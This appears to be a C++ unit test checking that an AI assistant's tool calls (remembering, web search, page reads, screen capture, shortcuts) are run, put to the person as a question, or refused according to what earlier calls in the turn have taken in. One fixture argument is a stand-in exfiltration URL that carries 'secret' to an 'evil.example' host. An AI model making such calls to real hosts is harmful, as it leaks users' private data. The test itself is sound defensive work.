// Every ordering of two actions in one turn: what the first leaves behind decides about the second.

#include "ai/tools/ToolFixture.h"

#include <array>

namespace morvane {

using namespace Qt::StringLiterals;

namespace {

enum class Attached { nothing, document, image };

// The abilities, with the three kinds of page: named by the person, found by a search, and neither.
enum class Action {
    remember,
    forget,
    search,
    readTyped,
    readFound,
    readUnknown,
    screen,
    open,
    event,
    shortcut
};

constexpr std::array actions{Action::remember,  Action::forget,      Action::search, Action::readTyped,
                             Action::readFound, Action::readUnknown, Action::screen, Action::open,
                             Action::event,     Action::shortcut};

// What the rules make of an action.
enum class Verdict { runs, asks, refused };

// What a turn has taken in so far.
struct Taint {
    bool web = false;
    bool outside = false;
    bool sensitive = false;
    bool found = false; // a search brought its page
};

// The rules as the person is told about them, written apart from the code that keeps them. One note is
// stored.
Verdict verdictOf(Action action, const Taint &taint)
{
    switch (action) {
    case Action::remember:
        return taint.outside || taint.web ? Verdict::refused : Verdict::runs;
    case Action::forget: // one note matches
    case Action::readTyped:
        return Verdict::runs;
    case Action::screen:
        return taint.web ? Verdict::refused : Verdict::asks;
    case Action::readFound: // a stored note makes every page that the model chose a question
    case Action::readUnknown:
    case Action::search:
    case Action::open:
    case Action::event:
    case Action::shortcut:
        return Verdict::asks;
    }
    return Verdict::refused;
}

void leaveBehind(Action action, Taint &taint)
{
    const bool reads =
        action == Action::readTyped || action == Action::readFound || action == Action::readUnknown;
    taint.web |= reads || action == Action::search;
    taint.outside |= taint.web || action == Action::screen;
    taint.sensitive |= action == Action::screen;
    taint.found |= action == Action::search;
}

AIToolCall callOf(Action action)
{
    constexpr std::array names{
        "remember",      "forget",         "search_web", "read_web_page",         "read_web_page",
        "read_web_page", "look_at_screen", "open_link",  "create_calendar_event", "run_shortcut"};
    static const std::array<QString, 10> arguments{
        uR"({"fact":"New."})"_s,
        uR"({"about":"coffee"})"_s,
        uR"({"query":"weather"})"_s,
        uR"({"url":"https://typed.example/Page"})"_s,
        uR"({"url":"https://found.example/One"})"_s,
        uR"({"url":"https://evil.example/?q=secret"})"_s,
        u"{}"_s,
        uR"({"url":"https://open.example"})"_s,
        uR"({"title":"Lunch","minutes_from_now":60})"_s,
        uR"({"name":"Tidy up"})"_s,
    };
    const auto at = static_cast<std::size_t>(action);
    return {u"id"_s, QString::fromLatin1(names[at]), arguments[at]};
}

std::vector<AIMessage> messagesWith(Attached attached)
{
    AIMessage message{.role = AIMessage::Role::user,
                      .content = u"Look at https://typed.example/Page please"_s};
    if (attached == Attached::document)
        message.content += u"\n--- BEGIN UNTRUSTED CONTENT (document, id 0) ---\n"_s;
    if (attached == Attached::image)
        message.imageDataURLs.append(u"data:image/jpeg;base64,AA"_s);
    return {message};
}

class TaintTest : public ToolFixture {
protected:
    // Runs the action and holds the outcome against the rule.
    void expectRule(Action action, const std::shared_ptr<TurnContext> &turn, Taint &taint,
                    const std::string &where)
    {
        if (memory.matching(u"coffee"_s).empty())
            memory.record(u"Drinks coffee"_s);
        const Verdict verdict = verdictOf(action, taint);
        const bool runs = verdict == Verdict::runs || (verdict == Verdict::asks && !turn->unattended);
        const auto askedBefore = asked.size();
        const auto ranBefore = completed.size();
        const auto effectsBefore = effects();
        const AIToolResult result = dispatch(callOf(action), turn);
        EXPECT_EQ(asked.size() - askedBefore, verdict == Verdict::asks && !turn->unattended ? 1 : 0) << where;
        EXPECT_EQ(completed.size() - ranBefore, runs ? 1U : 0U) << where << result.content.toStdString();
        EXPECT_EQ(result.isError, !runs) << where << result.content.toStdString();
        const bool touchesNotes = action == Action::remember || action == Action::forget;
        EXPECT_EQ(effects() - effectsBefore, runs && !touchesNotes ? 1 : 0) << where;
        if (runs)
            leaveBehind(action, taint);
        EXPECT_EQ(turn->webContentConsumed, taint.web) << where;
        EXPECT_EQ(turn->outsideContentInContext, taint.outside) << where;
        EXPECT_EQ(turn->sensitiveDataInContext, taint.sensitive) << where;
    }
};

TEST_F(TaintTest, EveryOrderingOfTwoKeepsTheRules)
{
    int cases = 0;
    for (const auto attached : {Attached::nothing, Attached::document, Attached::image}) {
        for (const auto attendance :
             {TurnContext::Attendance::attended, TurnContext::Attendance::unattended}) {
            for (const Action first : actions) {
                for (const Action second : actions) {
                    const auto turn = turnOf(attendance, messagesWith(attached));
                    const bool holdsSomething = attached != Attached::nothing;
                    Taint taint{.outside = holdsSomething, .sensitive = holdsSomething};
                    const std::string where = std::to_string(static_cast<int>(attached)) + '/' +
                                              std::to_string(static_cast<int>(first)) + " then " +
                                              std::to_string(static_cast<int>(second)) +
                                              (turn->unattended ? " unattended " : " attended ");
                    expectRule(first, turn, taint, where);
                    expectRule(second, turn, taint, where);
                    ++cases;
                }
            }
        }
    }
    EXPECT_EQ(cases, 600);
}

// Without a note, only what the turn itself holds makes a found page a question.
TEST_F(TaintTest, AFoundPageIsAQuestionOnceTheTurnHoldsSomethingPrivate)
{
    for (const auto attached : {Attached::nothing, Attached::document, Attached::image}) {
        for (const bool looksFirst : {false, true}) {
            const auto turn = turnOf(TurnContext::Attendance::attended, messagesWith(attached));
            if (looksFirst)
                dispatch(callOf(Action::screen), turn);
            dispatch(callOf(Action::search), turn);
            asked.clear();
            dispatch(callOf(Action::readFound), turn);
            const bool isPrivate = looksFirst || attached != Attached::nothing;
            EXPECT_EQ(asked,
                      isPrivate ? QStringList(u"Read this page from the search results"_s) : QStringList());
        }
    }
}

} // namespace

} // namespace morvane
